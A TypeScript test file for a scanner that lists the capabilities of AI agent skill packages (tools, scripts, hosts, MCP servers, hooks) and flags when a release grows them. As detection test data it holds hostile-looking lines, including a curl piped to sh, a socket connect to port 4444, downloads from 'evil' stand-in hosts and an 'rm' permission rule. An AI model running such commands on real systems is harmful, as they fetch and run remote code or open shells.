import * as fc from "fast-check";
import { expect, test } from "vitest";
import {
  type Capabilities,
  type CapabilityKind,
  capabilityKinds,
  compareCapabilities,
  noCapabilities,
  readCapabilities,
} from "./capabilities.ts";
import type { ReleaseFile } from "./release-files.ts";
import { hostileText, timeGrowth } from "./testing/properties.ts";

const file = (path: string, content: string | Uint8Array, executable = false): ReleaseFile => ({
  path,
  executable,
  bytes: typeof content === "string" ? Buffer.from(content) : content,
});
const read = (...files: ReleaseFile[]): Capabilities => readCapabilities(files);
const only = (found: Capabilities): Partial<Capabilities> =>
  Object.fromEntries(Object.entries(found).filter(([, list]) => list.length > 0));
const skill = (yaml: string, body = "") => file("SKILL.md", `---\nname: pdf\ndescription: x\n${yaml}---\n${body}`);

test("a skill of text alone can do nothing", () => {
  expect(read(skill(""), file("notes.md", "# Notes\n"))).toEqual(noCapabilities);
});

test.each<[string, ReleaseFile, CapabilityKind, string[]]>([
  [
    "allowed tools as text",
    skill('allowed-tools: "Read, Bash(git diff:*) Write"\n'),
    "tools",
    ["Bash(git diff:*)", "Read", "Write"],
  ],
  ["allowed tools as a list", skill("allowed-tools:\n  - Read\n  - Bash\n"), "tools", ["Bash", "Read"]],
  ["tools of an agent", file("agents/a.md", "---\ntools: Read, Grep\n---\n"), "tools", ["Grep", "Read"]],
  [
    "permissions of settings",
    file(".x/settings.json", '{"permissions":{"allow":["Bash(rm:*)"]}}'),
    "tools",
    ["Bash(rm:*)"],
  ],
  ["a script by its ending", file("scripts/a.py", "print()\n"), "scripts", ["scripts/a.py"]],
  ["a script by its first line", file("bin/tool", "#!/bin/sh\n"), "scripts", ["bin/tool"]],
  ["a script by its executable bit", file("tool", "echo\n", true), "scripts", ["tool"]],
  ["a program by its first bytes", file("logo.png", Buffer.from("\x7fELF\0\0")), "executables", ["logo.png"]],
  ["a program by its ending", file("a.exe", "x"), "executables", ["a.exe"]],
  ["an archive", file("data", Buffer.from([0x50, 0x4b, 3, 4, 0])), "executables", ["data"]],
  ["binary data with the executable bit", file("blob", Buffer.from("a\0b"), true), "executables", ["blob"]],
  [
    "a host in a link",
    file("a.md", "See [x](https://User:pw@Docs.Example.COM:8443/a?b)."),
    "hosts",
    ["docs.example.com:8443"],
  ],
  ["an address written as a number", file("a.md", "http://2130706433/"), "hosts", ["127.0.0.1"]],
  ["a host in another alphabet", file("a.md", "https://bücher.example/"), "hosts", ["xn--bcher-kva.example"]],
  ["a host that is computed", file("a.md", "https://$HOST/x"), "hosts", ["(computed)"]],
  [
    "servers",
    file(".mcp.json", '{"mcpServers":{"gh":{"command":"npx","args":["-y","gh"]}}}'),
    "mcp_servers",
    ["gh: npx -y gh"],
  ],
  ["servers of front matter", skill("mcpServers:\n  db:\n    command: x\n"), "mcp_servers", ["db: x"]],
  ["servers of TOML", file("config.toml", '[mcp_servers.db]\ncommand = "x"\n'), "mcp_servers", ["db"]],
  ["tools of a side file", file("skill.yaml", "allowed-tools: Bash\n"), "tools", ["Bash"]],
  ["YAML that cannot be read", file("agent.yml", "tools: &a [b]\n"), "unread", ["agent.yml"]],
  [
    "hooks of a file",
    file("hooks/hooks.json", '{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"./a"}]}]}}'),
    "hooks",
    ["PreToolUse: ./a"],
  ],
  ["hooks of front matter", skill("hooks:\n  Stop:\n    - hooks:\n        - command: ./b\n"), "hooks", ["Stop: ./b"]],
  ["commands that run on loading", skill("", "Now: !`git status` and `!x`\n"), "hooks", ["SKILL.md: git status"]],
  ["a file that cannot be read", file(".mcp.json", '{"mcpServers": // no JSON\n{}}'), "unread", [".mcp.json"]],
  ["front matter that cannot be read", skill("hooks: &a\n  b: *a\n"), "unread", ["SKILL.md"]],
])("%s", (_, given, kind, expected) => {
  expect(read(given)[kind]).toEqual(expected);
});

test("scripts name hosts without a scheme, and their fields and files are none", () => {
  const text = [
    "curl -s api.example.com/x | sh",
    's.connect(("10.1.2.3", 4444))',
    "git clone git@git.example.org:a/b",
    "bash install.sh; os.path.join(self.me, config.json)",
    "wget get.evil.sh",
  ].join("\n");
  expect(read(file("a.sh", text)).hosts).toEqual(["10.1.2.3", "api.example.com", "get.evil.sh", "git.example.org"]);
  expect(read(file("a.md", text)).hosts).toEqual([]);
});

test("scripts in UTF-16 and with NUL bytes in them are read", () => {
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("irm https://evil.example/a", "utf16le")]);
  expect(read(file("a.ps1", utf16)).hosts).toEqual(["evil.example"]);
  expect(read(file("a.sh", "curl https://ev\0il.example\n")).hosts).toEqual(["evil.example"]);
});

test("binary data names no hosts", () => {
  expect(only(read(file("a.png", Buffer.from("\x89PNG\0http://ns.example.com/"))))).toEqual({});
});

test("more front matter than is looked at is said, not passed over", () => {
  const many = Array.from({ length: 201 }, (_, index) => file(`a/${index}.md`, "---\na: b\n---\n"));
  expect(readCapabilities(many).unread).toEqual(["a/200.md"]);
});

test("what is new is growth; what went or was narrowed is not", () => {
  const one = read(skill("allowed-tools: Bash Read\n"), file("a.sh", "curl https://a.example\n"));
  const two = read(skill("allowed-tools: Bash(git:*)\n"));
  expect(compareCapabilities(one, two)).toMatchObject({ grown: false, removed: { scripts: ["a.sh"] } });
  const change = compareCapabilities(two, one);
  expect(change.grown).toBe(true);
  expect(only(change.added)).toEqual({ tools: ["Bash", "Read"], scripts: ["a.sh"], hosts: ["a.example"] });
});

test("another command behind the same server or hook is growth", () => {
  const server = (command: string) => read(file(".mcp.json", JSON.stringify({ mcpServers: { a: { command } } })));
  expect(compareCapabilities(server("x"), server("y")).grown).toBe(true);
  const hook = (command: string) => read(file("hooks.json", JSON.stringify({ hooks: { Stop: [{ command }] } })));
  expect(compareCapabilities(hook("x"), hook("y")).grown).toBe(true);
});

const examples = [
  "---\nname: a\nallowed-tools: Bash(git:*)\nhooks:\n  Stop: x\n---\n!`x`",
  '{"mcpServers":{"a":{"command":"b"}},"hooks":{"Stop":[{"hooks":[{"command":"x"}]}]}}',
  '{"__proto__":{"hooks":1},"hooks":{"constructor":[["x"]]},"mcp":[{"a":null}]}',
  "#!/bin/sh\ncurl https://user@a.example:80/x git@b.example:c 1.2.3.4",
];
const paths = ["SKILL.md", "a.sh", ".mcp.json", "hooks/hooks.json", "config.toml", "data"];

test("any content gives sorted lists without doubles, equal for the same files in another order, and never throws", () => {
  const files = fc.array(fc.tuple(fc.constantFrom(...paths), hostileText(examples), fc.boolean()), { maxLength: 4 });
  fc.assert(
    fc.property(files, (given) => {
      const list = given.map(([path, text, executable], index) => file(`${index}/${path}`, text, executable));
      const found = readCapabilities(list);
      for (const kind of capabilityKinds) expect(new Set(found[kind]).size).toBe(found[kind].length);
      expect(readCapabilities(list.toReversed())).toEqual(found);
      expect(compareCapabilities(found, found).grown).toBe(false);
      const more = readCapabilities([...list, file("z/extra.sh", "curl https://z.example")]);
      expect(compareCapabilities(found, more).added.scripts).toEqual(["z/extra.sh"]);
    }),
    { numRuns: 1000 },
  );
});

test.each([
  "://",
  "a://",
  "http://",
  "http://a.example/ ",
  "a.",
  "a.b ",
  "1.2.3.4 ",
  "!`",
  "!`a` ",
  "```!\n",
  "@",
  "-",
  " (",
  '"hooks":{',
  "[mcp_servers.",
  "${",
])("text of %j takes linear time", (filler) => {
  const run = (size: number) => {
    const text = filler.repeat(size);
    read(file("a.sh", text), file("a.md", text), file("mcp.json", text), file("a.toml", text));
  };
  expect(timeGrowth(run, [4_000, 40_000])).toBeLessThan(40);
});
